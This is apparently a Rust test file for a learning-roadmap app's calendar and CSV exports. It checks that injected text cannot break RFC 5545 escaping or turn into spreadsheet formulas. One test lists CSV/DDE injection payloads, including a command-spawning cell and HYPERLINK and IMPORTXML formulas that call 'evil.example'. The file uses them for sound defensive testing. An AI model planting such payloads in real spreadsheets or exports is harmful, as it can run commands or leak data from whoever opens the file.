//! The calendar and the tables, read again by others than their writer.

use std::{collections::BTreeSet, process::Command};

use chrono::{DateTime, Utc};
use mastery::{
    domain::{day::LogicalDay, progress::Progress, roadmap::Roadmap, state::State},
    export::{Source, calendar::calendar},
    store::roadmap_file::{Notes, Place, read_roadmap},
    text::sanitise,
};
use proptest::{prelude::*, sample::select, test_runner::TestRunner};

use crate::{
    lane::{report, rounds},
    pty::{Home, MASTERY},
};

use super::{
    corpus::{strings, texts},
    world::{self, NOW, Poison, marks},
};

fn exported(home: &Home, args: &[&str]) -> String {
    let output = Command::new(MASTERY)
        .arg("export")
        .args(args)
        .current_dir(home.path())
        .env_clear()
        .envs(home.environment())
        .env("MASTERY_NOW", NOW)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// What a calendar holds, event by event: the names of its properties, and all
/// values, read by the rules of RFC 5545.
#[derive(Debug, Default, PartialEq, Eq)]
struct Read {
    events: usize,
    names: Vec<String>,
    values: Vec<String>,
    longest: usize,
}

/// Reads a calendar, or says what is wrong with it.
fn read(text: &str) -> Result<Read, String> {
    let mut it = Read::default();
    let body = text.strip_suffix("\r\n").ok_or("no line end at the end")?;
    let mut lines: Vec<String> = Vec::new();
    for line in body.as_bytes().split(|byte| *byte == b'\n') {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        let line = std::str::from_utf8(line).map_err(|_cut| "a letter is cut by a fold")?;
        it.longest = it.longest.max(line.len());
        if line.len() > 75 {
            return Err(format!("{} octets: {line}", line.len()));
        }
        if line.contains('\r') || line.contains(|c: char| c.is_control()) {
            return Err(format!("a control: {line:?}"));
        }
        match line.strip_prefix([' ', '\t']) {
            Some(more) => lines
                .last_mut()
                .ok_or("a fold at the start")?
                .push_str(more),
            None => lines.push(line.to_owned()),
        }
    }
    for line in lines {
        let (name, value) = line
            .split_once(':')
            .ok_or_else(|| format!("no property: {line}"))?;
        it.events += usize::from(line == "BEGIN:VEVENT");
        it.names.push(name.to_owned());
        let mut plain = String::new();
        let mut letters = value.chars();
        while let Some(letter) = letters.next() {
            match letter {
                '\\' => match letters.next() {
                    Some('n' | 'N') => plain.push('\n'),
                    Some(c @ ('\\' | ';' | ',')) => plain.push(c),
                    other => return Err(format!("an odd escape {other:?}: {line}")),
                },
                letter => plain.push(letter),
            }
        }
        it.values.push(plain);
    }
    let other = icalendar::parser::unfold(text);
    let other = icalendar::parser::read_calendar(&other).map_err(|error| error.clone())?;
    let events = other.components.iter().filter(|it| it.name == "VEVENT");
    let events = events.count();
    if events != it.events || other.components.len() != events {
        return Err(format!(
            "{events} events to one reader, {} to another",
            it.events
        ));
    }
    Ok(it)
}

/// A text without its line ends and blanks, of which a calendar makes spaces.
fn squeezed(text: &str) -> String {
    text.chars()
        .filter(|c| !c.is_whitespace() && !matches!(c, '\u{2400}'..='\u{2421}' | '\u{fffd}'))
        .collect()
}

#[test]
fn no_text_adds_an_event_or_a_property_or_comes_back_changed() {
    let texts: Vec<String> = texts("calendar.txt")
        .into_iter()
        .map(|it| it.text)
        .collect();
    let plain = Poison::new(vec!["word".to_owned(); texts.len()], 0);
    let (mut whole, mut events, mut seen, mut fields) = (0, 0, BTreeSet::new(), BTreeSet::new());
    let (rounds, least) = (rounds(14, 93), rounds(60, 90));
    let good = read(&exported(&world::home(&plain), &["ics"])).unwrap();
    assert!(good.events >= 20, "{}", good.events);
    for round in 0..rounds {
        let poison = Poison::new(texts.clone(), round);
        let it = read(&exported(&world::home(&poison), &["ics"])).unwrap();
        assert_eq!(it.events, good.events);
        assert_eq!(it.names, good.names);
        events += it.events;
        for value in &it.values {
            let value = squeezed(value);
            for mark in marks(&value) {
                let shown = sanitise(poison.behind(&mark).trim()).into_owned();
                let wanted = format!("{mark}{}", squeezed(&shown));
                assert!(value.contains(&wanted), "{wanted:?} in {value:?}");
                whole += 1;
                fields.insert(mark[..2].to_owned());
                seen.insert(mark[2..].to_owned());
            }
        }
    }
    report(
        "T20 calendar",
        &format!(
            "{} texts, {} of them seen, {} fields; {rounds} calendars, {events} events, {whole} texts come back; \
             no line over 75 octets",
            texts.len(),
            seen.len(),
            fields.len()
        ),
    );
    assert!(seen.len() >= least, "{}", seen.len());
    assert!(whole >= 40 * rounds, "{whole}");
}

#[test]
fn a_calendar_that_does_not_escape_is_noticed() {
    let texts = texts("calendar.txt");
    let home = world::home(&Poison::new(vec!["word".to_owned()], 0));
    let good = exported(&home, &["ics"]);
    let names = read(&good).unwrap().names;
    let values = read(&good).unwrap().values;
    let mut noticed = 0;
    for text in &texts {
        // As it is, and not folded, behind the first summary.
        let bad = good.replacen("SUMMARY:", &format!("SUMMARY:{}", text.text), 1);
        let fault = match read(&bad) {
            Ok(it) => {
                let place = names.iter().position(|name| name == "SUMMARY").unwrap();
                let wanted = format!("{}{}", text.text, values[place]);
                it.names != names || it.values.get(place) != Some(&wanted)
            }
            Err(_) => true,
        };
        noticed += usize::from(fault);
    }
    report(
        "T20 control: a calendar that neither escapes nor folds",
        &format!("{noticed} of {} noticed", texts.len()),
    );
    assert!(noticed >= 65, "{noticed}");
}

const SMALL: &str = r#"format = 1
id = "small"
title = "x"
[cadence]
rule = "x"
[[cadence.slot]]
days = ["Mon"]
kind = "book"
title = "x"
[[phase]]
id = "a"
title = "x"
days = 4
[[phase.reading]]
id = "b"
kind = "book"
title = "x"
[[plan.lane]]
id = "l"
title = "x"
[[plan.lane.block]]
quarters = [1]
milestones = [{ id = "m", title = "x" }]
[[review]]
id = "r"
every = "quarter"
subject = "x"
"#;

fn small() -> Roadmap {
    let place = Place {
        file: "roadmap.toml",
        notes: &|_| Notes::Found,
    };
    read_roadmap(SMALL, &place).roadmap.unwrap()
}

/// A calendar in which every text is this one.
fn with(roadmap: &mut Roadmap, state: &State, text: &str) -> String {
    text.clone_into(&mut roadmap.title);
    roadmap.cadence.rule = Some(text.to_owned());
    for slot in &mut roadmap.cadence.slots {
        text.clone_into(&mut slot.title);
    }
    for item in &mut roadmap.items {
        text.clone_into(&mut item.title);
    }
    for lane in &mut roadmap.plan.lanes {
        text.clone_into(&mut lane.title);
    }
    for review in &mut roadmap.reviews {
        text.clone_into(&mut review.subject);
    }
    let progress = Progress::new(roadmap, state);
    let source = Source {
        roadmap,
        state,
        progress: &progress,
        today: LogicalDay::parse("2026-03-06").unwrap(),
    };
    let made: DateTime<Utc> = DateTime::parse_from_rfc3339(NOW).unwrap().into();
    calendar(&source, made).unwrap()
}

#[test]
fn any_text_gives_the_same_events() {
    let mut learner = small();
    let day = LogicalDay::parse("2026-01-05").unwrap();
    let event = mastery::domain::event::Event {
        id: mastery::domain::event::EventId::new(ulid::Ulid::from_parts(1, 1)),
        batch: None,
        device: mastery::domain::id::DeviceId::new("d"),
        clock: 1,
        at: DateTime::parse_from_rfc3339("2026-01-05T09:00:00+01:00").unwrap(),
        zone: "UTC".into(),
        day,
        sum: 0,
        kind: mastery::domain::event::Kind::Begin { start: day },
    };
    let state = State::from_events([event]);
    let good = read(&with(&mut learner, &state, "word")).unwrap();
    let parts: Vec<String> = texts("calendar.txt")
        .into_iter()
        .map(|it| it.text)
        .chain(strings())
        .collect();
    let some = prop_oneof![
        select(parts),
        any::<String>(),
        any::<char>().prop_map(String::from),
        "[a-z ,;:\\\\\"]{0,80}",
    ];
    let text = proptest::collection::vec(some, 0..6).prop_map(|it| it.concat());
    let cases = rounds(300, 100_000);
    let mut runner = TestRunner::new(ProptestConfig {
        cases: cases as u32,
        failure_persistence: None,
        ..ProptestConfig::default()
    });
    let mut roadmap = small();
    let roadmap = std::cell::RefCell::new(&mut roadmap);
    runner
        .run(&text, |text| {
            // A title of nothing may leave a line out.
            let text = format!("x{text}");
            let it = read(&with(&mut roadmap.borrow_mut(), &state, &text))
                .map_err(TestCaseError::fail)?;
            prop_assert_eq!(it.events, good.events);
            prop_assert_eq!(&it.names, &good.names);
            let wanted = squeezed(&sanitise(text.trim()));
            let there = it.values.iter().filter(|it| squeezed(it).contains(&wanted));
            prop_assert!(there.count() >= 2);
            Ok(())
        })
        .unwrap();
    report(
        "T20 any text",
        &format!(
            "{cases} texts, each in every field: {} events each, the text comes back",
            good.events
        ),
    );
}

#[test]
fn no_text_is_a_formula_or_a_row_of_its_own() {
    let mut all: Vec<String> = [
        "=cmd|' /C calc'!A0",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "\u{feff}=1",
        "\u{200b}=1",
        "\u{0}=1",
        "\u{202e}=1",
        "%0A=1",
        "\"=1",
        "\"\r\n=1",
        "a,b",
        "a;b",
        "a\tb",
        "\"",
        "\"\"",
        "a\"b",
        "a\r\nb",
        "a\nb",
        "a\rb",
        "|x",
        "=",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "=IMPORTXML(\"https://evil.example\";\"//a\")",
        "'=1",
        "''",
        "\u{1b}=1",
    ]
    .map(str::to_owned)
    .into();
    all.extend(texts("calendar.txt").into_iter().map(|it| it.text));
    all.extend(texts("markup.txt").into_iter().map(|it| it.text));
    let (mut cells, mut rows, mut formulas) = (0, 0, 0);
    // Here the text begins the cell: the mark stands behind it.
    let bare = |text: &str, n: usize| super::corpus::toml(&format!("{text}qa{n:03}"));
    let mut roadmap = crate::pty::GARDEN.to_owned();
    for (n, text) in all.iter().enumerate() {
        let title = bare(text, n);
        roadmap += &format!(
            "[[phase.reading]]\nid = \"x{n}\"\nkind = \"book\"\ntitle = {title}\nauthor = {title}\n"
        );
    }
    roadmap += "[budget]\ncurrency = \"EUR\"\n[[budget.time]]\nid = \"learning\"\ntitle = \"L\"\nhours = 5\n\
                [[budget.money]]\nid = \"m\"\ntitle = \"M\"\namount = \"9.90\"\nevery = \"month\"\n";
    let home = Home::new();
    home.write("roadmap.toml", roadmap);
    let mut scribe = world::Scribe::new();
    for (n, text) in all.iter().enumerate() {
        use world::Value::{Number, Text};
        let text = || Text(format!("{text}qa{n:03}"));
        let learning = Text("learning".to_owned());
        scribe.event(
            "session",
            vec![
                ("category", learning),
                ("minutes", Number(5)),
                ("text", text()),
            ],
        );
        scribe.event(
            "session",
            vec![("category", text()), ("minutes", Number(5))],
        );
        let amount = || ("amount", Text("-1.10".to_owned()));
        scribe.event(
            "spent",
            vec![amount(), ("line", Text("m".to_owned())), ("text", text())],
        );
        scribe.event("spent", vec![amount(), ("line", text())]);
        scribe.event("done", vec![("item", text())]);
    }
    std::fs::create_dir_all(home.data.join("garden")).unwrap();
    home.write("journal", &scribe.out);
    std::fs::rename(
        home.path().join("journal"),
        home.data.join("garden/other.toml"),
    )
    .unwrap();
    let danger = |cell: &str| {
        let bare = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
        bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
    };
    let figure = |cell: &str| cell.parse::<f64>().is_ok();
    for (table, least) in [
        ("items", all.len() * 2),
        ("sessions", all.len() * 2),
        ("spending", all.len() * 2),
    ] {
        let text = exported(&home, &["csv", table]);
        let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
        let width = reader.headers().unwrap().len();
        let (mut here, mut seen) = (0, BTreeSet::new());
        for row in reader.records() {
            let row = row.unwrap();
            assert_eq!(row.len(), width, "{row:?}");
            here += 1;
            for cell in &row {
                cells += 1;
                assert!(!danger(cell) || figure(cell), "{table}: {cell:?}");
                formulas += usize::from(cell.starts_with('\'') && danger(&cell[1..]));
                assert!(
                    !cell.contains(|c: char| c.is_control() && c != '\n'),
                    "{table}: {cell:?}"
                );
                seen.extend(marks(cell));
            }
        }
        assert!(
            here >= least && seen.len() == all.len(),
            "{table}: {here} rows, {} texts",
            seen.len()
        );
        rows += here;
    }
    // The control: the same cells as they were.
    let caught = all.iter().filter(|it| danger(it)).count();
    assert!(caught >= 15, "{caught}");
    report(
        "T13 tables",
        &format!(
            "{} texts, {rows} rows, {cells} cells; {formulas} formulas became text; control: {caught} of the texts \
             are noticed as they are",
            all.len()
        ),
    );
    assert!(formulas >= 40, "{formulas}");
}
